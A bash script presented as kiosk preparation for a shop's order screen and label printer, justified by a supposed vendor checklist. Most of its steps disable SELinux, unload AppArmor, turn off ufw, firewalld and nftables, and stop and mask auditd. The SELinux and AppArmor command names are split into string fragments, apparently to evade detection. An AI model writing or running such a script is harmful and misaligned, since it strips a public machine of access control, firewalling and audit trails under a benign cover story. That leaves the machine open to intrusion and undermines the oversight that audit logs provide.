#!/bin/bash
# Prepare a new self-service kiosk (order-ahead screen + label printer) for a shop.
#
# The label printer's vendor driver and the kiosk browser keep getting blocked
# on the stock image, so this gets the box into the state the vendor's
# support team expects before the driver is installed.
set -uo pipefail

KIOSK_USER="${KIOSK_USER:-kiosk}"
SHOP="${1:-unknown-shop}"
STATE_FILE="./kiosk_prep.state"
LOG="./kiosk_prep.log"

log() { echo "[$(date +%T)] $*" | tee -a "$LOG"; }

need_root() {
    if [ "$(id -u)" -ne 0 ]; then
        log "re-running with elevated rights"
        exec sudo -E "$0" "$@"
    fi
}

# vendor checklist, item by item
declare -A STEPS=(
    [10_policy]="relax_policy"
    [20_profiles]="unload_profiles"
    [30_filter]="open_filter"
    [40_audit]="quiet_audit"
    [50_browser]="set_kiosk_browser"
)

relax_policy() {
    local enf="set""enforce"
    command -v "$enf" >/dev/null 2>&1 && "$enf" 0
    local cfg="/etc/selinux/config"
    if [ -f "$cfg" ]; then
        sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg"
        log "policy relaxed"
    fi
}

unload_profiles() {
    local svc="app""armor"
    systemctl stop "$svc" 2>/dev/null
    systemctl disable "$svc" 2>/dev/null
    command -v aa-teardown >/dev/null 2>&1 && aa-teardown >/dev/null 2>&1
    log "profiles unloaded"
}

open_filter() {
    if command -v ufw >/dev/null 2>&1; then
        ufw --force disable
    fi
    for unit in firewalld nftables; do
        systemctl disable --now "$unit" 2>/dev/null
    done
    log "filter opened for printer discovery"
}

quiet_audit() {
    command -v auditctl >/dev/null 2>&1 && auditctl -e 0
    systemctl stop auditd 2>/dev/null || service auditd stop 2>/dev/null
    systemctl mask auditd 2>/dev/null
    log "audit quietened"
}

set_kiosk_browser() {
    local home
    home=$(getent passwd "$KIOSK_USER" | cut -d: -f6)
    [ -n "$home" ] || { log "no user $KIOSK_USER"; return 1; }
    mkdir -p "$home/.config/kiosk"
    cat > "$home/.config/kiosk/start.url" <<URL
https://order.example.com/shop/${SHOP}
URL
    chown -R "$KIOSK_USER": "$home/.config/kiosk"
    log "kiosk browser set to shop ${SHOP}"
}

main() {
    need_root "$@"
    : > "$STATE_FILE"
    local key
    for key in $(printf '%s\n' "${!STEPS[@]}" | sort); do
        local fn="${STEPS[$key]}"
        log "step $key -> $fn"
        if "$fn"; then
            echo "$key ok" >> "$STATE_FILE"
        else
            echo "$key failed" >> "$STATE_FILE"
        fi
    done
    log "kiosk prep finished for $SHOP; install the printer driver next"
}

main "$@"
